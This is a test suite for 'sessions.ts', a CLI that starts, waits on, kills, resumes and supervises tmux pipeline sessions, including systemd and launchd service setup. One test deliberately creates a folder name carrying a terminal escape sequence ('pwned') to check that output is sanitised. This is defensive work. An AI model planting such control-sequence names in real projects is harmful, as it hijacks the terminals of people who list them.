    const [first, ...later] = slow.stderr.trimEnd().split('\n')
    expect(first).toMatch(/^sessions: waiting for docs to start: (compiling the pipeline|taking its lock) \(\d+s\)$/)
    for (const line of later) expect(line).toMatch(/^sessions: still waiting for docs to start: .* \(\d+s\)$/)
    const bounded = await cli(['start', 'pipeline', 'refine.yaml', 'late', '--yes', '--wait-start', '1', '-C', root], {
      env: { MOCK_COMPILE: '3', MOCK_PACE: '0.1' },
    })
    expect(bounded.code).toBe(0)
    expect(bounded.stdout).toMatch(
      /^✓ Started late \(pipeline scripts\/pipelines\/refine\.yaml\) in tmux session pipeline-late, engine PID \d+, still compiling the pipeline\./,
    )
    const json = await cli(['start', 'pipeline', 'refine.yaml', 'later', '--yes', '--json', '--wait-start', '0.5', '-C', root], {
      env: { MOCK_COMPILE: '3', MOCK_PACE: '0.1' },
    })
    expect(JSON.parse(json.stdout)).toMatchObject({
      settled: false,
      phase: 'compiling the pipeline',
      engine_pid: expect.any(Number),
      ended: null,
    })
    for (const name of ['docs', 'late', 'later'])
      await waitFor(`${name} complete`, async () => rowOf((await listJson(root)).sessions, name).health === 'complete', 30_000)
    // Each run's tmux session went with its engine: no dead pane to repair.
    expect(tmuxSessionNames().filter((name) => /^pipeline-(docs|late|later)$/.test(name))).toEqual([])
    expect(JSON.parse((await cli(['cleanup', '--json', '-C', root])).stdout).problems).toEqual([])
  })

  test("Ctrl-C while waiting: before the lock the start is undone (a resume's status put back); once the engine holds its lock it runs on", async () => {
    const root = await makeEngineProject()
    await startOk(['start', 'ralph', 'again', '2', '--yes', '-C', root], { env: { MOCK_PACE: '0.05' } })
    await waitFor('again complete', async () => rowOf((await listJson(root)).sessions, 'again').health === 'complete')
    const state = path.join(root, '.claude/pipeline-runs/again/state.json')
    writeFileSync(state, JSON.stringify({ ...readJson(state), status: 'killed' }))
    const before = readFileSync(state, 'utf8')
    // Its first line comes after a second of waiting; the engine reconciles for 5 s before it takes its lock.
    const interrupted = await cli(['resume', 'again', '--yes', '-C', root], { env: { MOCK_RECONCILE: '5' }, signal: abortAfter(3000) })
    expect(interrupted.code).toBe(130)
    expect(interrupted.stderr).toMatch(/reconciling its \d+ events, then taking its lock/)
    expect(interrupted.stderr).toMatch(
      /\nsessions: the wait was interrupted before the engine of again took its lock: the start is undone\n$/,
    )
    expect(tmuxSessionNames()).not.toContain('pipeline-again')
    expect(readJson(state).status).toBe('killed')
    expect(JSON.parse(readFileSync(state, 'utf8'))).toEqual(JSON.parse(before))

    const settling = await cli(['start', 'ralph', 'busy', '5', '--yes', '--json', '-C', root], {
      env: { MOCK_COMPILE: '4' },
      signal: abortAfter(1500),
    })
    expect(settling.code).toBe(0)
    const started = JSON.parse(settling.stdout)
    expect(started).toMatchObject({ settled: false, phase: 'writing its state', engine_pid: expect.any(Number) })
    expect(isPidAlive(started.engine_pid)).toBe(true)
    await waitFor('busy settled', async () => rowOf((await listJson(root)).sessions, 'busy').health === 'running')
    expect((await cli(['kill', 'busy', '-C', root])).code).toBe(0)
  })

  test('help, of every command, fits 80 columns: words wrap under their column (a command to copy stays whole)', async () => {
    for (const args of [['help'], ...['start', 'list', 'kill', 'notify', 'mcp', 'setup', 'events'].map((c) => ['help', c])]) {
      const run = await cli(args)
      expect(run.code).toBe(0)
      const own = run.stdout.split('\n').filter((line) => !line.includes('sessions.ts'))
      expect(own.length).toBeGreaterThan(5)
      for (const line of own) expect([...line].length, `${args.join(' ')}: ${line}`).toBeLessThanOrEqual(80)
    }
  })

  test('off a terminal, list, status, events and cleanup fit 80 columns (COLUMNS widens them)', async () => {
    // A long command of the user's own: its hints must still fit, each whole on its line.
    const env = { SESSIONS_COMMAND: 'npx --prefix ../tools sessions' }
    let checked = 0
    let multi = ''
    for (const fixture of ['running-multistage', 'crashed-loop', 'parallel-pipeline', 'failed-loop', 'bad-files']) {
      const root = await makeProject(fixture)
      if (fixture === 'running-multistage') multi = root
      const names = (await listJson(root)).sessions.map((row: { name: string }) => row.name)
      const runs = [['list'], ['events'], ['cleanup', '--dry-run'], ...names.map((name: string) => ['status', name])]
      for (const args of runs) {
        const run = await cli(args, { cwd: root, env, columns: 80 })
        expect(run.stderr, args.join(' ')).toBe('')
        for (const line of run.stdout.split('\n'))
          expect([...line].length, `${fixture}: ${args.join(' ')}: ${line}`).toBeLessThanOrEqual(80)
        if (args[0] === 'list')
          for (const warning of JSON.parse((await cli(['list', '--json'], { cwd: root, env })).stdout).warnings)
            if (warning.resume_command) expect(run.stdout).toContain(`resume: ${warning.resume_command}`)
        checked++
      }
    }
    expect(checked).toBeGreaterThan(15)
    // As a user runs it, off a terminal: 80 columns, unless COLUMNS sets the width (an event a line, for grep).
    const narrow = cliProcess(['events'], { cwd: multi, env })
    const wide = cliProcess(['events'], { cwd: multi, env: { ...env, COLUMNS: '400' } })
    expect(wide.stdout.split('\n').length).toBeLessThan(narrow.stdout.split('\n').length)
    expect(Math.max(...wide.stdout.split('\n').map((line) => line.length))).toBeGreaterThan(80)
    for (const line of narrow.stdout.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80)
  })

  test("many stage types: an unknown one's error names a dozen and where all are; help start shows them in columns", async () => {
    const root = await makeEngineProject()
    const extra = Array.from({ length: 30 }, (_, i) => `extra-stage-${String(i).padStart(2, '0')}`)
    for (const stage of extra)
      cpSync(path.join(root, 'scripts', 'stages', 'ralph'), path.join(root, 'scripts', 'stages', stage), { recursive: true })
    const env = { SESSIONS_COMMAND: 'sessions' }
    const wrong = await cli(['start', 'extra-stage-3', 'x', '--yes'], { cwd: root, env })
    expect(wrong.code).toBe(1)
    expect(wrong.stderr).toMatch(
      /did you mean "extra-stage-03"\?; stages in .*: elegance, extra-stage-00, .* and 22 more \(all of them: sessions help start\)\n$/,
    )
    const help = await cli(['help', 'start'], { cwd: root, env, columns: 80 })
    const listed = help.stdout.slice(help.stdout.indexOf('Stage types in')).split('\n\n')[0].split('\n')
    // Down then across: the 34 names in rows of five (16 columns each), each name once, each line within 80.
    expect(listed.length - 1).toBe(Math.ceil(34 / 5))
    expect(listed.slice(1).join(' ').split(/\s+/).filter(Boolean).sort()).toEqual(
      ['elegance', 'improve-plan', 'ralph', 'refine-tasks', ...extra].sort(),
    )
    for (const line of help.stdout.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80)
    expect(help.stdout).toMatch(/Pipelines in [\s\S]*pipelines:\n {2}refine\.yaml\n/)
    // A stage folder of a cloned repository named to drive the terminal is listed as text, on its one line.
    mkdirSync(path.join(root, 'scripts', 'stages', 'evil\x1b]0;pwned\x07\nnext'))
    const hostile = await cli(['help', 'start'], { cwd: root, env, columns: 80 })
    expect(hostile.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/)
    expect(hostile.stdout).toMatch(/evil\S*next/)
  })

  test("in an 80-column terminal, monitor's header and kill's result wrap with words whole: no line is wider", async () => {
    const root = await makeEngineProject()
    const name = 'a-session-with-a-name-long-enough-to-push-every-line-past-eighty-c'.slice(0, 60)
    await startOk(['start', 'improve-plan', name, '25', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
    for (const [pane, args] of [
      ['fit-monitor', ['monitor', name, '-n', '3', '-C', root]],
      ['fit-kill', ['kill', name, '-C', root]],
    ] as const) {
      terminal(pane, [...args], { width: 80, height: 40 })
      await waitFor(`${pane} done`, () => paneText(`=${pane}:`).includes('exit=0'), 30_000)
      // Ours: the header above monitor's separator (what follows is the engine's own output, as it printed it).
      const text = paneText(`=${pane}:`)
      const lines = (pane === 'fit-monitor' ? text.slice(0, text.indexOf('────')) : text).split('\n')
      expect(lines.join('\n')).toContain(name.slice(0, 20))
      // (A command to copy stays whole on its line, however long: "  resume: …".)
      for (const line of lines.filter((l) => !/^ {2}resume: /.test(l))) expect(line.length, line).toBeLessThanOrEqual(80)
      tmux('kill-session', '-t', `=${pane}`)
    }
  })

  test('in an 80- and a 40-column terminal the wait is one line, cut to the width, never wrapped', async () => {
    const root = await makeEngineProject()
    for (const [name, width] of [
      ['wide', 80],
      ['narrow', 40],
    ] as const) {
      terminal(`spin-${name}`, ['start', 'pipeline', 'refine.yaml', `a-rather-long-session-name-${name}`, '--yes', '-C', root], {
        width,
        height: 30,
        env: { MOCK_COMPILE: '3', MOCK_PACE: '0.1' },
      })
      const seen = await waitFor('the spinner', () => {
        const lines = paneText(`=spin-${name}:`)
          .split('\n')
          .filter((line) => line.includes('waiting for'))
        return lines.length ? lines : null
      })
      expect(seen).toHaveLength(1)
      expect(seen[0].length).toBeLessThanOrEqual(width - 1)
      expect(seen[0]).toMatch(/^. waiting for a-rather/)
      await waitFor('the start', () => paneText(`=spin-${name}:`).includes('exit=0'), 30_000)
      expect(paneText(`=spin-${name}:`)).not.toContain('waiting for')
      tmux('kill-session', '-t', `=spin-${name}`)
    }
  })
})

describe('setup service: the supervisor as a systemd user service', () => {
  const ANALYZE = ['/usr/bin/systemd-analyze', '/bin/systemd-analyze'].find((file) => existsSync(file))

  test('--print shows a unit systemd accepts; written, its webhooks only in a file only the user reads; bad flags exit 2', async () => {
    const root = await makeEngineProject()
    const config = path.join(BASE, `service-config-${path.basename(root)}`)
    // A systemctl of the test's own, first and alone on the PATH with node and git: nothing here may reach
    // the machine's own user manager.
    const bin = path.join(BASE, `service-bin-${path.basename(root)}`)
    mkdirSync(bin)
    for (const tool of ['node', 'git'])
      symlinkSync(execFileSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).trim(), path.join(bin, tool))
    const calls = path.join(bin, 'calls')
    writeFileSync(path.join(bin, 'systemctl'), `#!/bin/sh\necho "$*" >> ${calls}\n`, { mode: 0o755 })
    const env = { XDG_CONFIG_HOME: config, PATH: bin }
    const hook = 'https://hooks.slack.com/services/T0/B0/secret-part'
    const flags = ['--', '--webhook', hook, '--max-resumes', '3', '--backoff', '10s..5m', 'auth']
    const printed = await cli(['setup', 'service', '--print', '-C', root, ...flags], { env })
    expect([printed.code, printed.stderr]).toEqual([0, ''])
    const unit = printed.stdout
    expect(unit).toMatch(/^\[Unit\]\nDescription=sessions\.ts supervise for /)
    expect(unit).toContain('KillMode=process\n')
    expect(unit).toContain(`Environment=PATH=${env.PATH}\n`)
    expect(unit).toMatch(/\nExecStart=\S+ .*sessions\.ts supervise auth --max-resumes 3 --backoff 10s\.\.300s --root \S+\n/)
    expect(unit).not.toContain('secret-part')
    expect(existsSync(config)).toBe(false)
    if (ANALYZE) {
      const file = path.join(BASE, `verify-${path.basename(root)}.service`)
      writeFileSync(file, unit)
      const verified = spawnSync(ANALYZE, ['verify', file], { encoding: 'utf8' })
      expect([verified.status, verified.stderr]).toEqual([0, ''])
    }
    const written = await cli(['setup', 'service', '-C', root, ...flags], { env })
    expect(written.code, written.stderr).toBe(0)
    expect(written.stdout).toMatch(/enabled and started sessions-supervise-/)
    expect(readFileSync(calls, 'utf8')).toMatch(/^--user daemon-reload\n--user enable --now sessions-supervise-\S+\.service\n$/)
    const unitFile = readdirSync(path.join(config, 'systemd', 'user'))
    expect(unitFile).toEqual([expect.stringMatching(/^sessions-supervise-.*\.service$/)])
    expect(readFileSync(path.join(config, 'systemd', 'user', unitFile[0]), 'utf8')).toBe(unit)
    const envFile = path.join(config, 'sessions-ts', `${unitFile[0]}.env`)
    expect(readFileSync(envFile, 'utf8')).toBe(`SESSIONS_NOTIFY_WEBHOOKS=${hook}\n`)
    expect(statSync(envFile).mode & 0o777).toBe(0o600)
    for (const bad of [['--', '--max-resumes', 'x'], ['--', '--detach'], ['--', '--webhook', 'ftp://x'], ['--force']]) {
      const run = await cli(['setup', 'service', '-C', root, ...bad], { env })
      expect([run.code, run.stderr.split('\n').length], bad.join(' ')).toEqual([2, 2])
    }
  })
})

describe('setup service --manager launchd: the supervisor as a launchd agent (macOS)', () => {
  test('--print shows a property list with AbandonProcessGroup and the PATH, no webhook; written, the webhooks only in a file only the user reads, loaded by launchctl', async () => {
    const root = await makeEngineProject()
    const home = mkdtempSync(path.join(BASE, 'mac-home-'))
    const bin = path.join(home, 'bin')
    mkdirSync(bin)
    for (const tool of ['node', 'git'])
      symlinkSync(execFileSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).trim(), path.join(bin, tool))
    const calls = path.join(bin, 'calls')
    // A launchctl of the test's own: the agent of this label not loaded yet (bootout fails), bootstrap works.
    writeFileSync(path.join(bin, 'launchctl'), `#!/bin/sh\necho "$*" >> ${calls}\n[ "$1" = bootout ] && exit 3\nexit 0\n`, { mode: 0o755 })
    const env = { HOME: home, PATH: bin }
    const hook = 'https://hooks.slack.com/services/T0/B0/secret-part'
    const flags = ['--manager', 'launchd', '-C', root, '--', '--webhook', hook, '--resume-on', 'crashed,limit', 'auth']
    const printed = await cli(['setup', 'service', '--print', ...flags], { env })
    expect([printed.code, printed.stderr]).toEqual([0, ''])
    expect(printed.stdout).not.toContain('secret-part')
    expect(readdirSync(home)).toEqual(['bin'])
    // Read back by Python's plistlib, as launchd reads the format.
    const parse = (text: string) =>
      JSON.parse(
        execFileSync('python3', ['-c', 'import json,plistlib,sys; print(json.dumps(plistlib.loads(sys.stdin.buffer.read())))'], {
          input: text,
          encoding: 'utf8',
        }),
      )
    const agent = parse(printed.stdout)
    expect(agent).toMatchObject({
      Label: expect.stringMatching(/^com\.sessions-ts\.supervise\.[A-Za-z0-9_-]+-[0-9a-f]{8}$/),
      WorkingDirectory: root,
      EnvironmentVariables: { PATH: bin },
      RunAtLoad: true,
      KeepAlive: { SuccessfulExit: false },
      AbandonProcessGroup: true,
    })
    const envFile = path.join(home, 'Library', 'Application Support', 'sessions-ts', `${agent.Label}.env`)
    expect(agent.ProgramArguments.slice(0, 4)).toEqual(['/bin/sh', '-c', 'set -a; . "$0"; set +a; exec "$@"', envFile])
    expect(agent.ProgramArguments.slice(-6)).toEqual(['supervise', 'auth', '--resume-on', 'crashed,limit', '--root', root])
    const written = await cli(['setup', 'service', ...flags], { env })
    expect(written.code, written.stderr).toBe(0)
    const plist = path.join(home, 'Library', 'LaunchAgents', `${agent.Label}.plist`)
    expect(readFileSync(plist, 'utf8')).toBe(printed.stdout)
    expect(readFileSync(calls, 'utf8')).toBe(
      `bootout gui/${process.getuid!()}/${agent.Label}\nbootstrap gui/${process.getuid!()} ${plist}\n`,
    )
    expect(statSync(envFile).mode & 0o777).toBe(0o600)
    // The file sh reads gives the watcher its webhooks as one word, whatever they hold.
    const said = execFileSync('sh', ['-c', 'set -a; . "$0"; printf %s "$SESSIONS_NOTIFY_WEBHOOKS"', envFile], { encoding: 'utf8' })
    expect(said).toBe(hook)
    const bad = await cli(['setup', 'service', '--manager', 'upstart', '-C', root], { env })
    expect([bad.code, bad.stderr]).toEqual([2, 'sessions: --manager is systemd or launchd, got "upstart"\n'])
  })
})

describe("setup shell: hints in the user's own words", () => {
  test('a sessions command on the PATH; run through it, every hint reads "sessions …" and runs as printed; SESSIONS_COMMAND sets the words', async () => {
    const root = await makeEngineProject('crashed-loop')
    const home = mkdtempSync(path.join(BASE, 'home-'))
    const env = { HOME: home, XDG_BIN_HOME: '' }
    const setup = await cli(['setup', 'shell', '--json'], { env, cwd: root })
    expect(setup.stderr).toBe('')
    expect(setup.code).toBe(0)
    const bin = path.join(home, '.local/bin')
    expect(JSON.parse(setup.stdout)).toEqual({
      file: path.join(bin, 'sessions'),
      kind: NATIVE ? 'link' : 'wrapper',
      action: 'written',
      on_path: false,
      add_to_path: 'export PATH="$HOME/.local/bin:$PATH"',
    })
    expect(JSON.parse((await cli(['setup', 'shell', '--json'], { env, cwd: root })).stdout).action).toBe('unchanged')
    // Run through it, as the user does: every hint is "sessions …", and runs as printed.
    const userEnv = { ...ENV, HOME: home, PATH: `${bin}:${process.env.PATH}`, MOCK_PACE: '5' }
    const listed = spawnSync('sessions', ['list'], { cwd: root, env: userEnv, encoding: 'utf8' })
    expect(listed.stderr).toBe('')
    expect(listed.status).toBe(0)
    const hints = listed.stdout
      .split('\n')
      .filter((line) => /^ {2}sessions /.test(line))
      .map((line) => line.trim().split(/\s{2,}/)[0])
    expect(hints).toEqual(expect.arrayContaining(['sessions status busy', 'sessions cleanup', 'sessions resume busy']))
    for (const command of hints) {
      const ran = spawnSync(
        'sh',
        ['-c', `${command} --yes`.replace('status busy --yes', 'status busy').replace('cleanup --yes', 'cleanup')],
        {
          cwd: root,
          env: userEnv,
          encoding: 'utf8',
        },
      )
      expect(ran.status, `${command}: ${ran.stderr}`).toBe(0)
    }
    expect((await cli(['kill', 'busy', '-C', root])).code).toBe(0)
    // An alias or a wrapper of the user's: SESSIONS_COMMAND says its words.
    expect((await cli(['status', 'busy'], { env: { SESSIONS_COMMAND: 'sx' }, cwd: root })).stdout).toMatch(/^ {2}sx resume busy/m)
    // Another file in its place is never replaced without --force (removed first: writing would follow a link).
    rmSync(path.join(bin, 'sessions'))
    writeFileSync(path.join(bin, 'sessions'), '#!/bin/sh\necho mine\n')
    const refused = await cli(['setup', 'shell'], { env, cwd: root })
    expect(refused.code).toBe(1)
    expect(refused.stderr).toMatch(/sessions exists and is not this tool's command; keep it, or replace it with: .*setup shell --force\n$/)
    expect(readFileSync(path.join(bin, 'sessions'), 'utf8')).toBe('#!/bin/sh\necho mine\n')
    const forced = await cli(['setup', 'shell', '--force'], { env: { ...env, PATH: `${bin}:${process.env.PATH}` }, cwd: root })
    expect(forced.stdout).toMatch(
      /^Replaced .*sessions \(a (link to|wrapper that runs) this sessions\.ts.*\)\.\nIts folder is on your PATH/,
    )
    // The command it made for another Node (a wrapper for Node 20, a link for a Node that runs the file) is
    // its own: replaced without --force after a Node upgrade or downgrade.
    const command = path.join(bin, 'sessions')
    rmSync(command)
    if (NATIVE)
      writeFileSync(
        command,
        `#!/bin/sh\n# The sessions command: sessions.ts through tsx (written by sessions.ts setup shell).\nSESSIONS_COMMAND="\${SESSIONS_COMMAND:-sessions}" exec '/old/tsx' '${SESSIONS}' "$@"\n`,
        { mode: 0o755 },
      )
    else symlinkSync(SESSIONS, command)
    const upgraded = await cli(['setup', 'shell', '--json'], { env, cwd: root })
    expect(upgraded.stderr).toBe('')
    expect(JSON.parse(upgraded.stdout)).toMatchObject({ kind: NATIVE ? 'link' : 'wrapper', action: 'replaced' })
  })
})

describe('the mock engine behaves like the engine', () => {
  test('refuses a live lock, releases its lock on SIGTERM, resumes from iteration_completed + 1', async () => {
    const root = await makeEngineProject()
    const engine = path.join(root, 'scripts', 'run.sh')
    const first = spawnGroup(engine, ['ralph', 'mock', '5', '--foreground'], {
      cwd: root,
      env: { ...ENV, MOCK_END: 'hang:2', MOCK_PACE: '0.1' },
      stdio: 'ignore',
    })
    const lock = path.join(root, '.claude/locks/mock.lock')
    await waitFor(
      'iteration 2',
      () => existsSync(lock) && readJson(path.join(root, '.claude/pipeline-runs/mock/state.json')).iteration === 2,
    )
    expect(readJson(lock).pid).toBe(first.pid)
    const second = spawnSync(engine, ['ralph', 'mock', '5'], { cwd: root, env: ENV, encoding: 'utf8' })
    expect(second.status).toBe(1)
    expect(second.stderr).toContain(`Session 'mock' is already running (PID ${first.pid})`)
    // The engine and its hung agent, as a terminal's Ctrl-C or a closed pane signals them all.
    process.kill(-first.pid!, 'SIGTERM')
    await waitFor('the lock released', () => !existsSync(lock))
    const resumed = spawnSync(engine, ['ralph', 'mock', '5', '--resume'], { cwd: root, env: { ...ENV, MOCK_PACE: '0' }, encoding: 'utf8' })
    // Like the engine: a loop that reached its max exits 1, its state complete.
    expect(resumed.status).toBe(1)
    expect(resumed.stdout).toMatch(/^Iteration 2 of 5$/m)
    expect(resumed.stdout).not.toMatch(/^Iteration 1 of 5$/m)
    expect(readJson(path.join(root, '.claude/pipeline-runs/mock/state.json'))).toMatchObject({ status: 'complete', iteration_completed: 5 })
  })
})

describe('kill', () => {
  test('a running session with a process tree: every process gone, no lock, state killed, progress byte for byte', async () => {
    const root = await makeEngineProject()
    const { lock, enginePid, agents: tree } = await startHungAgent(root, 'victim')
    const run = path.join(root, '.claude/pipeline-runs/victim')
    const kept = () => {
      const all = snapshot(run)
      delete all['state.json']
      delete all['session-output.log']
      return all
    }
    const before = kept()
    const result = await cli(['kill', 'victim', '--json', '-C', root])
    expect(result.code).toBe(0)
    const [report] = JSON.parse(result.stdout)
    expect(report).toMatchObject({
      name: 'victim',
      outcome: 'killed',
      health_before: 'running',
      tmux_removed: true,
      lock_removed: true,
      state_marked: true,
    })
    expect(report.terminated).toEqual(expect.arrayContaining([enginePid, ...tree]))
    for (const pid of [enginePid, ...tree]) expect(isPidAlive(pid), `PID ${pid}`).toBe(false)
    expect(existsSync(lock)).toBe(false)
    expect(tmuxSessionNames()).not.toContain('pipeline-victim')
    const state = readJson(path.join(run, 'state.json'))
    expect(state).toMatchObject({ status: 'killed', killed_at: expect.stringMatching(/Z$/), session: 'victim', type: 'loop' })
    expect(kept()).toEqual(before)
    expect(report.resume_command).toBe(hinted('resume victim', root))
  })

  test('an engine that ignores SIGTERM gets SIGKILL after the grace period', async () => {
    const root = await makeProject('empty')
    // A pane whose process ignores SIGTERM, standing in for a stuck engine.
    tmux('new-session', '-d', '-s', 'pipeline-stubborn', '-c', root, 'trap "" TERM; while :; do sleep 0.1; done')
    const run = await cli(['kill', 'stubborn', '--grace', '0.5', '--json', '-C', root])
    expect(run.code).toBe(0)
    const [report] = JSON.parse(run.stdout)
    expect(report.force_killed.length).toBeGreaterThan(0)
    for (const pid of report.terminated) expect(isPidAlive(pid)).toBe(false)
  })

  test('a session that is already not running: says so, exit 0, nothing changed', async () => {
    const root = await makeProject('reused-pid')
    const lock = readJson(path.join(root, '.claude/locks/busy.lock'))
    const before = snapshot(root)
    const run = await cli(['kill', 'busy', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^busy is not running \(crashed: lock PID \d+ is alive but not the engine\); nothing was changed\n$/)
    expect(snapshot(root)).toEqual(before)
    // The unrelated process that now has the lock's PID is never signalled.
    expect(isPidAlive(lock.pid)).toBe(true)
  })

  test('prefix names: kill auth never touches auth-v2', async () => {
    const root = await makeProject('prefix-names')
    const v2 = readJson(path.join(root, '.claude/locks/auth-v2.lock')).pid
    const run = await cli(['kill', 'auth', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^auth is not running \(complete/)
    expect(isPidAlive(v2)).toBe(true)
    expect(tmuxSessionNames()).toContain('pipeline-auth-v2')
  })

  test("another project's session is refused unless --force; an unknown name exits 1", async () => {
    const root = await makeProject('shared-name')
    const other = await makeProject('other-project')
    const refused = await cli(['kill', 'elsewhere', '-C', root])
    expect(refused.code).toBe(1)
    expect(refused.stderr).toBe(
      `sessions: pipeline-elsewhere belongs to another project (${other}); not killed (--force kills it anyway)\n`,
    )
    expect(tmuxSessionNames()).toContain('pipeline-elsewhere')
    const unknown = await cli(['kill', 'nobody', '-C', root])
    expect(unknown.code).toBe(1)
    expect(unknown.stderr).toMatch(/^sessions: no session nobody in /)
    const forced = await cli(['kill', 'elsewhere', '--force', '--grace', '2', '-C', root])
    expect(forced.code).toBe(0)
    expect(tmuxSessionNames()).not.toContain('pipeline-elsewhere')
    // This project's own finished "shared" and the other project's running "shared" are untouched.
    expect(tmuxSessionNames()).toContain('pipeline-shared')
  })
})

describe('resume and wait', () => {
  test("resume takes the type, max, provider and model from the session's own files; flags override", async () => {
    const root = await makeEngineProject()
    const record = path.join(BASE, `record-${projects}.jsonl`)
    // The first run: started with codex/o3 and max 9 (recorded in its events and context).
    expect(
      (
        await cli(['start', 'ralph', 'again', '9', '--provider=codex', '--model=o3', '--yes', '-C', root], {
          env: { MOCK_END: 'hang:2', MOCK_PACE: '0.2' },
        })
      ).code,
    ).toBe(0)
    await waitFor('iteration 2', () => readJson(path.join(root, '.claude/pipeline-runs/again/state.json')).iteration === 2)
    expect((await cli(['kill', 'again', '--grace', '1', '-C', root])).code).toBe(0)
    const run = await cli(['resume', 'again', '--yes', '-C', root], { env: { MOCK_PACE: '5', MOCK_RECORD: record } })
    expect(withoutWaits(run.stderr)).toBe('')
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^✓ Resumed again \(ralph, max 9\)/)
    expect(records(record)[0].argv).toEqual(['ralph', 'again', '9', '--provider=codex', '--model=o3', '--resume', '--foreground'])
    expect((await cli(['kill', 'again', '--grace', '1', '-C', root])).code).toBe(0)
    // kill → resume → kill ends killed: the first end's killed_at is history once the session resumed.
    expect(readJson(path.join(root, '.claude/pipeline-runs/again/state.json')).status).toBe('killed')
    expect(rowOf((await listJson(root)).sessions, 'again').health).toBe('killed')
    const second = await cli(['resume', 'again', '--max', '12', '--model=sonnet', '--yes', '-C', root], {
      env: { MOCK_PACE: '5', MOCK_RECORD: record },
    })
    expect(withoutWaits(second.stderr)).toBe('')
    expect(second.code).toBe(0)
    expect(records(record)[1].argv).toEqual(['ralph', 'again', '12', '--provider=codex', '--model=sonnet', '--resume', '--foreground'])
  })

  test('resume of a complete session is refused, as start --resume is', async () => {
    const root = await makeEngineProject('complete-loop')
    const run = await cli(['resume', 'done-loop', '--yes', '-C', root])
    expect(run.code).toBe(1)
    expect(run.stderr).toMatch(/^sessions: session done-loop is complete: nothing to resume/)
  })

  test('wait: exit 0 when all complete, 1 when any ended otherwise (saying which), 124 on --timeout', async () => {
    const root = await makeEngineProject()
    expect((await cli(['start', 'ralph', 'quick', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.3' } })).code).toBe(0)
    expect(
      (await cli(['start', 'ralph', 'doomed', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.3', MOCK_END: 'fail:2' } })).code,
    ).toBe(0)
    expect((await cli(['start', 'ralph', 'stuck', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })).code).toBe(0)
    const ok = await cli(['wait', 'quick', '--json', '-C', root])
    expect(ok.code).toBe(0)
    expect(JSON.parse(ok.stdout)).toMatchObject({
      ended: true,
      all_complete: true,
      timed_out: false,
      sessions: [{ name: 'quick', health: 'complete' }],
    })
    const bad = await cli(['wait', 'quick', 'doomed', '-C', root])
    expect(bad.code).toBe(1)
    expect(bad.stdout).toContain('doomed: failed (state says failed)')
    expect(bad.stdout).toContain('Not all complete: doomed failed')
    expect(bad.stdout).not.toContain('[')
    const late = await cli(['wait', 'stuck', '--timeout', '1', '-C', root])
    expect(late.code).toBe(124)
    expect(late.stdout).toContain('Timed out; still running: stuck')
    expect((await cli(['wait', 'nobody', '-C', root])).code).toBe(1)
  })

  test('wait in a terminal shows a progress bar per session, redrawn in place', async () => {
    const root = await makeEngineProject()
    // Iterations slower than wait's polls: the bar is redrawn several times on its way from 0/4 to 4/4.
    expect((await cli(['start', 'ralph', 'barred', '4', '--yes', '-C', root], { env: { MOCK_PACE: '2' } })).code).toBe(0)
    terminal('ui', ['wait', 'barred', '-C', root], { width: 120, height: 20 })
    // (tsx may take seconds to start in the pane on a loaded machine: any bar before the last.)
    await waitFor('an early bar', () => /barred {2}\[[#-]{20}\] [0-3]\/4 · running/.test(paneText('=ui:')))
    await waitFor('the end', () => paneText('=ui:').includes('exit=0'), 30_000)
    // Redrawn in place: one bar line for the one session, however many polls, and it reached 4/4.
    const bars = paneText('=ui:')
      .split('\n')
      .filter((line) => line.startsWith('barred '))
    expect(bars).toEqual([expect.stringMatching(/^barred {2}\[#{20}\] 4\/4 /)])
  })
})

describe('the demo', () => {
  test('npm run demo runs every step, ends with gamma resumed and complete, and leaves nothing behind', async () => {
    // Its temporary project goes under TMPDIR: here, this file's own folder.
    const result = spawnSync(TSX, [path.join(HERE, 'fixtures', 'demo.ts')], {
      cwd: HERE,
      env: { ...ENV, NO_COLOR: '1', TMPDIR: BASE },
      encoding: 'utf8',
    })
    // Off a terminal, a wait says what it waits for on a line of stderr; nothing else goes there.
    for (const line of result.stderr.split('\n').filter(Boolean))
      expect(line).toMatch(/^sessions: ((stopping|removing) .*: waiting up to |(still )?waiting for \S+( to (start|resume))?: )/)
    expect(result.status).toBe(0)
    expect(result.stdout).toContain('gamma: complete (state says complete)')
    // (The whole output said when it does not match: a demo that failed under load shows why.)
    expect(result.stdout, result.stdout).toMatch(/beta\s+improve-plan\s+-\s+\d+\/90\s+killed/)
    expect(result.stdout).toMatch(/✓ gamma — lock PID \d+ is dead/)
    expect(result.stdout).toContain(`A temporary project with a mock engine: ${BASE}/sessions-demo-`)
    expect(readdirSync(BASE).filter((entry) => entry.startsWith('sessions-demo-'))).toEqual([])
  }, 60_000)
})

describe('beads (with a stand-in bd on the PATH)', () => {
  function withBd(beads: { id: string; status: string; labels: string[] }[]) {
    const data = path.join(BASE, `beads-${++projects}.json`)
    const log = path.join(BASE, `bd-${projects}.log`)
    writeFileSync(data, JSON.stringify(beads))
    writeFileSync(log, '')
    return { data, log, env: { PATH: `${path.join(HERE, 'fixtures', 'bd')}:${process.env.PATH}`, BD_DATA: data, BD_LOG: log } }
  }
  const queue = [
    { id: 'bd-1', status: 'closed', labels: ['pipeline/work'] },
    { id: 'bd-2', status: 'in_progress', labels: ['pipeline/work'] },
    { id: 'bd-3', status: 'open', labels: ['pipeline/work'] },
    { id: 'bd-4', status: 'open', labels: ['pipeline/other'] },
  ]

  test('list shows what is left, status and monitor show done, in progress and ready; kill puts in-progress beads back', async () => {
    const root = await makeEngineProject()
    const bd = withBd(queue)
    expect((await cli(['start', 'ralph', 'work', '9', '--yes', '-C', root], { env: { ...bd.env, MOCK_PACE: '5' } })).code).toBe(0)
    const listed = await cli(['list', '-C', root], { env: bd.env })
    expect(listed.stdout).toMatch(/work\s+ralph\s+-\s+\d\/9 · 2 beads left\s+running/)
    expect(
      readFileSync(bd.log, 'utf8')
        .split('\n')
        .filter((line) => line.startsWith('list')),
    ).toEqual(['list --json'])
